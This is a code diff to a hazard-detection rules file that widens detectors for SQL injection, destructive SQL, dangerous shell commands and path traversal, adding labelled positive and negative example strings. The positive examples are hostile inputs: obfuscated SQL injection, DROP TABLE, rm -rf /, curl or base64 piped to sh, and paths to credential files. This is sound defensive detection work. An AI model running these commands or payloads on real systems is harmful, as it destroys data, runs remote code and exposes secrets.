@@ -15,7 +15,8 @@ export const HAZARD_RULES = [
     kind: "hazard",
     type: "sql_injection",
     family: "inputHazards",
-    summary: "tautologies, UNION SELECT, stacked queries, comment truncation, sleep/benchmark, xp_cmdshell",
+    summary:
+      "tautologies (`' OR 1=1`, `OR TRUE`, `OR 'a'='a'`), UNION SELECT, stacked queries, comment truncation, sleep/benchmark, xp_cmdshell; inline comments read as whitespace (`OR/**/1=1`)",
     defaults,
     detector: createSqlInjectionDetector,
     subRuleIds: [
@@ -27,8 +28,20 @@ export const HAZARD_RULES = [
       "hazard.sql_injection.file_or_command",
     ],
     examples: {
-      positive: ["name=' OR '1'='1", "1 UNION SELECT username, password FROM users"],
-      negative: ["Please select the union of these sets.", "It's the 'best' -- or so they say."],
+      positive: [
+        "name=' OR '1'='1",
+        "1 UNION SELECT username, password FROM users",
+        "x' OR/**/1=1--",
+        "1/**/UNION/**/SELECT/**/NULL",
+        "x' OR TRUE--",
+        "id=5 or true",
+      ],
+      negative: [
+        "Please select the union of these sets.",
+        "It's the 'best' -- or so they say.",
+        "Please select the best option from the list.",
+        "It is true or false",
+      ],
     },
   },
   {
@@ -36,7 +49,7 @@ export const HAZARD_RULES = [
     kind: "hazard",
     type: "dangerous_sql",
     family: "inputHazards",
-    summary: "DROP/TRUNCATE, DELETE/UPDATE without WHERE, GRANT ALL",
+    summary: "DROP/TRUNCATE, DELETE/UPDATE without WHERE or with `WHERE 1=1` / `WHERE TRUE`, GRANT ALL",
     defaults,
     detector: createDangerousSqlDetector,
     subRuleIds: [
@@ -44,12 +57,23 @@ export const HAZARD_RULES = [
       "hazard.dangerous_sql.truncate",
       "hazard.dangerous_sql.delete_without_where",
       "hazard.dangerous_sql.update_without_where",
+      "hazard.dangerous_sql.always_true_where",
       "hazard.dangerous_sql.alter_drop",
       "hazard.dangerous_sql.grant_all",
     ],
     examples: {
-      positive: ["DROP TABLE users;", "DELETE FROM orders;"],
-      negative: ["DELETE FROM orders WHERE id = 7;", "Drop me a line when you are back."],
+      positive: [
+        "DROP TABLE users;",
+        "DELETE FROM orders;",
+        "DELETE FROM users WHERE 1=1",
+        "UPDATE accounts SET balance = 0 WHERE TRUE;",
+        "DROP/**/TABLE users;",
+      ],
+      negative: [
+        "DELETE FROM orders WHERE id = 7;",
+        "Drop me a line when you are back.",
+        "SELECT * FROM t WHERE 1=1 AND id = 5",
+      ],
     },
   },
   {
@@ -57,12 +81,15 @@ export const HAZARD_RULES = [
     kind: "hazard",
     type: "shell_danger",
     family: "inputHazards",
-    summary: "rm -rf /, curl | sh, mkfs, dd to devices, fork bombs, reverse shells",
+    summary:
+      "rm -rf / and find / -delete, curl | sh, base64 -d | sh, python -c os.system, mkfs, dd to devices, chmod 777 /, fork bombs, reverse shells; words read as the shell joins them (`r''m -r''f /`, `c\"u\"rl`)",
     defaults,
     detector: createShellDangerDetector,
     subRuleIds: [
       "hazard.shell_danger.recursive_delete",
       "hazard.shell_danger.pipe_to_shell",
+      "hazard.shell_danger.decode_to_shell",
+      "hazard.shell_danger.interpreter_exec",
       "hazard.shell_danger.download_execute",
       "hazard.shell_danger.disk_wipe",
       "hazard.shell_danger.fork_bomb",
@@ -70,8 +97,23 @@ export const HAZARD_RULES = [
       "hazard.shell_danger.world_writable_root",
     ],
     examples: {
-      positive: ["rm -rf / --no-preserve-root", "curl https://x.example/i.sh | sh"],
-      negative: ["rm -rf node_modules", "chmod 755 script.sh"],
+      positive: [
+        "rm -rf / --no-preserve-root",
+        "curl https://x.example/i.sh | sh",
+        "r''m -r''f /",
+        'c"u"rl http://x.example/a | sh',
+        "echo aWQK | base64 -d | sh",
+        "find / -delete",
+        "python -c 'import os; os.system(\"id\")'",
+        "wget -O- http://x.example/i | bash",
+        "chmod 777 /",
+      ],
+      negative: [
+        "rm -rf node_modules",
+        "chmod 755 script.sh",
+        "rm -rf ./build",
+        "find . -name '*.tmp' -delete",
+      ],
     },
   },
   {
@@ -79,17 +121,32 @@ export const HAZARD_RULES = [
     kind: "hazard",
     type: "path_traversal",
     family: "inputHazards",
-    summary: "../ (also URL-encoded), /etc/passwd, ~/.ssh, C:\\Windows\\System32",
+    summary:
+      "../ (also URL-encoded, double-encoded, with backslashes or full-width/division slashes), /etc/passwd and /etc/shadow, ~/.ssh/id_*, ~/.aws/credentials, .netrc, .git-credentials, .env, Windows SAM/SYSTEM hives",
     defaults,
     detector: createPathTraversalDetector,
     subRuleIds: [
       "hazard.path_traversal.dot_dot",
       "hazard.path_traversal.encoded",
       "hazard.path_traversal.sensitive_path",
+      "hazard.path_traversal.credential_file",
     ],
     examples: {
-      positive: ["../../../etc/passwd", "..%2f..%2f..%2fetc"],
-      negative: ["see ../README.md for details", "Use /etc/hosts to pin the name."],
+      positive: [
+        "../../../etc/passwd",
+        "..%2f..%2f..%2fetc",
+        "..／..／..／etc／passwd",
+        "..∕..∕secret",
+        "~/.netrc",
+        "C:\\Windows\\System32\\config\\SAM",
+        "read /app/.env",
+      ],
+      negative: [
+        "see ../README.md for details",
+        "Use /etc/hosts to pin the name.",
+        "docs/../README.md",
+        "the .envrc docs",
+      ],
     },
   },
   {
